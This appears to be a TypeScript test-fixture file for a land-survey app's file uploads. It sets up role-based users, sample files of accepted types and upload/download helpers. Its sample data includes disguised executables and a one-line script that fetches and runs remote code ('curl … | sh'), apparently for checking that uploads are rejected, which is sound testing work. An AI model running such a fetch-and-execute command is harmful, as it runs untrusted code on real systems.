/**
 * Survey file test data: a survey in fieldwork with everyone who may touch its files (the
 * owning client, the working surveyor, the assigned technician, an admin) and outsiders, small
 * real-looking files of every accepted type and some disguised programs, and a multipart
 * upload helper.
 */
import type { TestApp } from "./_helpers.ts";
import { ORIGIN } from "./_helpers.ts";
import { createSignedInUser, type TestUser } from "./_auth.ts";
import { addSurveyor, clientWithSurvey } from "./_assignment_fixtures.ts";
import type { Survey } from "../lib/survey_schema.ts";
import { newStorageKey } from "../lib/storage/provider.ts";
import { insertSurveyFile } from "../db/survey_files.ts";
import { MAX_FILE_BYTES } from "../lib/survey_file_types.ts";

/** A survey being worked on, and the people around it. */
export interface FileFixture {
  survey: Survey;
  client: TestUser;
  cookies: {
    client: string;
    surveyor: string;
    technician: string;
    admin: string;
    otherClient: string;
    otherSurveyor: string;
    otherTechnician: string;
  };
  technician: TestUser;
  surveyorId: string;
}

/**
 * A client's survey with an accepted assignment (surveyor "Acme Survey"), a technician of
 * that firm assigned, and a second client, firm and technician with nothing to do with it.
 */
export async function fileFixture(t: TestApp): Promise<FileFixture> {
  const { client, cookie, survey } = await clientWithSurvey(t);
  const acme = await addSurveyor(t, "Acme Survey");
  const other = await addSurveyor(t, "Other Survey");
  await t.sql`
    insert into survey_assignments (survey_id, surveyor_id, agreed_price_cents, source, status)
    values (${survey.id}, ${acme.surveyor.id}, 120000, 'admin', 'accepted')`;
  const technician = await createSignedInUser(t, { role: "technician", fullName: "Tina Tech" });
  const otherTechnician = await createSignedInUser(t, { role: "technician" });
  await t.sql`insert into technicians (user_id, surveyor_id) values
    (${technician.user.id}, ${acme.surveyor.id}),
    (${otherTechnician.user.id}, ${other.surveyor.id})`;
  await t.sql`
    update surveys set status = 'scheduled', assigned_surveyor_id = ${acme.surveyor.id},
      assigned_technician_id = ${technician.user.id}
    where id = ${survey.id}`;
  const admin = await createSignedInUser(t, { role: "admin" });
  const otherClient = await createSignedInUser(t, { role: "client" });
  return {
    survey,
    client,
    technician: technician.user,
    surveyorId: acme.surveyor.id,
    cookies: {
      client: cookie,
      surveyor: acme.cookie,
      technician: technician.cookie,
      admin: admin.cookie,
      otherClient: otherClient.cookie,
      otherSurveyor: other.cookie,
      otherTechnician: otherTechnician.cookie,
    },
  };
}

/** A photo item on the survey's checklist (and a text item), returning both ids. */
export async function addChecklistItems(
  t: TestApp,
  surveyId: string,
): Promise<{ photoItemId: string; textItemId: string }> {
  await t.sql`
    insert into survey_checklists (survey_id, template_version) values (${surveyId}, 1)
    on conflict do nothing`;
  const [photo] = await t.sql<{ id: string }[]>`
    insert into survey_checklist_items (survey_id, position, key, label, kind, is_required)
    values (${surveyId}, 1000, 'test_corner_photo', 'Photo of the NE corner', 'photo', true)
    returning id`;
  const [text] = await t.sql<{ id: string }[]>`
    insert into survey_checklist_items (survey_id, position, key, label, kind, is_required)
    values (${surveyId}, 1001, 'test_notes', 'Notes', 'text', false)
    returning id`;
  return { photoItemId: photo.id, textItemId: text.id };
}

const enc = new TextEncoder();

/** `size` bytes starting with `head`, the rest a repeating pattern. */
export function bytesStartingWith(
  head: Uint8Array | string,
  size: number,
): Uint8Array<ArrayBuffer> {
  const start = typeof head === "string" ? enc.encode(head) : head;
  const out = new Uint8Array(Math.max(size, start.length));
  for (let i = start.length; i < out.length; i++) out[i] = (i * 31 + 7) % 251;
  out.set(start);
  return out;
}

/** Small files of each type, as their makers write them. */
export const FILES = {
  pdf: bytesStartingWith(
    "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
    3000,
  ),
  png: bytesStartingWith(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), 500),
  jpeg: bytesStartingWith(new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46]), 700),
  webp: bytesStartingWith("RIFF\x24\x00\x00\x00WEBPVP8 ", 400),
  heic: bytesStartingWith(
    new Uint8Array([
      0,
      0,
      0,
      0x18,
      ...enc.encode("ftypheic"),
      0,
      0,
      0,
      0,
      ...enc.encode("mif1heic"),
    ]),
    600,
  ),
  dwg: bytesStartingWith("AC1032\0\0\0\0\0\x01", 2000),
  dxf: enc.encode(
    "  0\r\nSECTION\r\n  2\r\nHEADER\r\n  9\r\n$ACADVER\r\n  1\r\nAC1027\r\n  0\r\nENDSEC\r\n  0\r\nEOF\r\n",
  ),
  csv: enc.encode(
    'Point,Northing,Easting,Elevation,Description\n1,10000.000,5000.000,512.31,IPF\n2,10012.5,5020.1,511.9,IRS 1/2" CAP\n',
  ),
  exe: bytesStartingWith("MZ\x90\x00\x03\x00\x00\x00\x04\x00", 4000),
  elf: bytesStartingWith("\x7fELF\x02\x01\x01", 3000),
  script: enc.encode("#!/bin/sh\ncurl http://example.test/x | sh\n"),
  zip: bytesStartingWith("PK\x03\x04\x14\x00", 900),
  gif: bytesStartingWith("GIF89a", 300),
  text: enc.encode("Just some notes about the site without a single comma in them\n"),
};

/** What `upload` sends: the fields in order (the file where "file" stands). */
export interface UploadInput {
  cookie: string;
  kind?: string;
  bytes: Uint8Array<ArrayBuffer>;
  fileName?: string;
  /** The part's Content-Type, as a browser would guess it from the name. */
  partType?: string;
  opId?: string;
  checklistItemId?: string;
  /** Send the text fields after the file instead of before. */
  isFileFirst?: boolean;
  headers?: Record<string, string>;
}

/** POST /api/surveys/{surveyId}/files as a browser's FormData would. */
export function upload(t: TestApp, surveyId: string, input: UploadInput): Promise<Response> {
  const form = new FormData();
  const fields: [string, string][] = [];
  if (input.kind !== undefined) fields.push(["kind", input.kind]);
  if (input.checklistItemId !== undefined) fields.push(["checklistItemId", input.checklistItemId]);
  if (input.opId !== undefined) fields.push(["opId", input.opId]);
  const file = new File([input.bytes], input.fileName ?? "plat.pdf", {
    type: input.partType ?? "application/octet-stream",
  });
  if (input.isFileFirst) form.append("file", file);
  for (const [name, value] of fields) form.append(name, value);
  if (!input.isFileFirst) form.append("file", file);
  return Promise.resolve(
    t.app.request(`${ORIGIN}/api/surveys/${surveyId}/files`, {
      method: "POST",
      headers: { origin: ORIGIN, cookie: input.cookie, ...input.headers },
      body: form,
    }),
  );
}

/** GET /api/files/{id} (with `?inline=1` when asked). */
export function download(
  t: TestApp,
  fileId: string,
  cookie: string,
  { inline = false }: { inline?: boolean } = {},
): Promise<Response> {
  return t.request("GET", `/api/files/${fileId}${inline ? "?inline=1" : ""}`, { cookie });
}

/** Rows in the tables that hold files: metadata, chunks, cleanup queue. */
export async function storedCounts(
  t: TestApp,
): Promise<{ files: number; chunks: number; pending: number }> {
  const [row] = await t.sql<{ files: number; chunks: number; pending: number }[]>`
    select (select count(*)::int from survey_files) as files,
      (select count(*)::int from file_chunks) as chunks,
      (select count(*)::int from storage_cleanup) as pending`;
  return row;
}

/**
 * A deliverable PDF of `surveyId` put in storage and recorded directly (no request): what a
 * test of downloads or deletes starts from. Returns its id.
 */
export async function addStoredFile(
  t: TestApp,
  { surveyId, uploadedBy }: { surveyId: string; uploadedBy: string },
): Promise<string> {
  const key = newStorageKey();
  const stored = await t.deps.storage.put(key, new Blob([FILES.pdf]).stream(), {
    contentType: "application/pdf",
    maxBytes: MAX_FILE_BYTES,
  });
  const file = await insertSurveyFile(t.sql, {
    surveyId,
    kind: "deliverable",
    checklistItemId: null,
    fileName: "Boundary plat.pdf",
    contentType: "application/pdf",
    sizeBytes: stored.sizeBytes,
    sha256: stored.sha256,
    storage: t.deps.storage.kind,
    storageKey: key,
    uploadedBy,
    opId: null,
  });
  return file!.id;
}
